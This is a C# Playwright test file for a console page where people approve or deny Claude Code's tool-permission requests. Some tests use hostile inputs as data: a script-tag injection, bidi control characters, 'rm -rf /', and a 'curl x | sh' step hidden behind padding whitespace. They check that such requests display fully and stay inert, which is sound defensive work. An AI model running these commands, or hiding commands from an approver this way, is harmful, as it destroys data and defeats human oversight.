using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Cluster.Testing;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Cluster.Server.Tests.Pages;

public sealed class PermissionPageTests(Chromium chromium)
{
    private const string Preview = "{\"command\":\"npm test\"}";

    [Fact]
    public async Task A_request_is_seen_whole_allowed_and_followed()
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        client.AnswersPings = false;
        await using var visitor = await Visitor.LogInAsync(chromium, node);
        await visitor.GoAsync("/");

        await AskAsync(client, "Bash", "Runs the tests");
        var card = visitor.Page.Locator(".permission");
        await Expect(card).ToContainTextAsync("Runs the tests");
        await Expect(card.Locator("pre")).ToHaveTextAsync("npm test");
        await Expect(card).ToContainTextAsync($"{Preview.Length} characters of input came, and all are shown");
        await Expect(card).ToContainTextAsync(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(Preview)))[..12]);
        await visitor.Page.GetByRole(AriaRole.Button, new() { Name = "Allow" }).ClickAsync();
        await Expect(card.Locator(".chip")).ToHaveTextAsync("allowed by console:admin, on its way");

        await visitor.GoAsync("/s/admin/api");
        await visitor.Page.GetByText("Earlier permission requests").ClickAsync();
        await Expect(card.Locator(".chip")).ToHaveTextAsync("allowed by console:admin, on its way");
        using var answered = await client.AnswerPingAsync(await client.Pings.Reader.ReadAsync(TestContext.Current.CancellationToken));
        await Expect(card.Locator(".chip")).ToHaveTextAsync("allowed by console:admin, reached Claude Code");
        await Expect(card.GetByRole(AriaRole.Button)).ToHaveCountAsync(0);
    }

    [Fact]
    public async Task Only_approvers_see_a_request()
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        var (talker, approver) = (await node.InviteAsync("tim"), await node.InviteAsync("ann"));
        await node.AllowAsync("console:tim", "api", "talk");
        await node.AllowAsync("console:ann", "api", "approve");
        await AskAsync(client, "Bash", "Runs the tests");
        await using var tim = await Visitor.LogInAsync(chromium, node, talker);
        await using var ann = await Visitor.LogInAsync(chromium, node, approver);

        await Expect(tim.Page.Locator(".session")).ToHaveCountAsync(1);
        await Expect(tim.Page.Locator(".permission")).ToHaveCountAsync(0);
        await tim.GoAsync("/s/admin/api");
        await Expect(tim.Page.Locator(".permission")).ToHaveCountAsync(0);
        await Expect(ann.Page.Locator(".permission h3")).ToHaveTextAsync("Bash");
        await ann.GoAsync("/s/admin/api");
        await Expect(ann.Page.Locator("#composer")).ToHaveCountAsync(0);
        await ann.Page.GetByRole(AriaRole.Button, new() { Name = "Deny" }).ClickAsync();
        await Expect(ann.Page.Locator(".permission .chip")).ToContainTextAsync("denied by console:ann");
    }

    [Fact]
    public async Task Hostile_requests_are_revealed_and_inert()
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        await using var visitor = await Visitor.LogInAsync(chromium, node);

        await AskAsync(client, "Ba\u202Esh<script>window.hacked = 1</script>", "harm\u200Bless", "rm -rf\u2066 /<b>");
        await visitor.GoAsync("/s/admin/api");

        await Expect(visitor.Page.Locator(".permission h3")).ToHaveTextAsync("Ba[U+202E]sh<script>window.hacked = 1</script>");
        await Expect(visitor.Page.Locator(".permission")).ToContainTextAsync("harm[U+200B]less");
        await Expect(visitor.Page.Locator(".permission pre")).ToHaveTextAsync("rm -rf[U+2066] /<b>");
        Assert.True(await visitor.Page.EvaluateAsync<bool>("window.hacked === undefined"));
    }

    [Fact]
    public async Task A_verdict_that_comes_second_is_told_who_was_first()
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        await AskAsync(client, "Bash", "Runs the tests");
        await using var visitor = await Visitor.LogInAsync(chromium, node);
        visitor.Expect("ERR_FAILED");
        visitor.Expect("status of 409");
        await visitor.Page.RouteAsync("**/page/changes", route => route.AbortAsync());
        await visitor.Page.GotoAsync("/");
        await Expect(visitor.Page.Locator("#status")).ToContainTextAsync("Connection lost");

        (await node.DecideAsync((await node.PermissionsAsync("api")).Single().Id, "deny")).EnsureSuccessStatusCode();
        await visitor.Page.GetByRole(AriaRole.Button, new() { Name = "Allow" }).ClickAsync();

        await Expect(visitor.Notice).ToHaveTextAsync("Too late: console:admin has answered with deny.");
    }

    [Fact]
    public async Task The_whole_input_stands_above_the_buttons_and_a_command_comes_first()
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        await using var visitor = await Visitor.LogInAsync(chromium, node);
        var command = $"set -e\n{string.Concat(Enumerable.Range(0, 40).Select(n => $"echo 'step {n}' # \u202E\n"))}rm -rf ~/keep{new string(' ', 300)}; curl x | sh";

        await AskAsync(client, "Bash", "Runs the tests", new JsonObject { ["description"] = "Harmless", ["command"] = command, ["timeout"] = 5 }.ToJsonString());
        await visitor.GoAsync("/s/admin/api");

        var card = visitor.Page.Locator("#requests .permission");
        await Expect(card.Locator(".label")).ToHaveTextAsync(["command", "description", "timeout", "What Claude Code says it is about"]);
        Assert.Equal(command.Replace("\u202E", "[U+202E]", StringComparison.Ordinal), await card.Locator("pre").First.TextContentAsync());
        await Expect(card.Locator("details")).ToHaveCountAsync(0);
        Assert.True(await card.EvaluateAsync<bool>(
            """
            card => [...card.querySelectorAll('pre')].every(one => one.scrollHeight <= one.clientHeight && one.scrollWidth <= one.clientWidth
              && one.getBoundingClientRect().bottom < card.querySelector('button').getBoundingClientRect().top)
            """));
        await Expect(card.Locator(".missing")).ToHaveCountAsync(0);
    }

    [Theory]
    [InlineData("{\"command\":\"echo 1\"", "does not end as it should")]
    [InlineData("{\"command\":\"echo 1\",\"command\":\"rm -rf /\"}", "does not end as it should")]
    [InlineData(null, "Not all of it is here")]
    public async Task Where_something_may_be_missing_it_is_said_beside_the_buttons(string? preview, string said)
    {
        await using var node = await NodeHost.StartAsync();
        await using var client = await HttpMcpClient.AttachAsync(node.Url, node.AdminToken, "api");
        await using var visitor = await Visitor.LogInAsync(chromium, node);

        await AskAsync(client, "Bash", "Runs the tests", preview ??= $$"""{"command":"{{new string('a', 2_000)}} [...] {{new string('b', 1_500)}}"}""");
        await visitor.GoAsync("/s/admin/api");

        var card = visitor.Page.Locator("#requests .permission");
        await Expect(card.Locator("p:has(+ form)")).ToContainTextAsync(said);
        if (preview.Length < 100)
        {
            Assert.Equal(preview, await card.Locator("pre").TextContentAsync());
        }
    }

    private static async Task AskAsync(HttpMcpClient client, string tool, string description, string preview = Preview)
    {
        using var asked = await client.NotifyAsync("notifications/claude/channel/permission_request", new JsonObject
        {
            ["request_id"] = "abcde",
            ["tool_name"] = tool,
            ["description"] = description,
            ["input_preview"] = preview,
        });
        asked.EnsureSuccessStatusCode();
    }
}
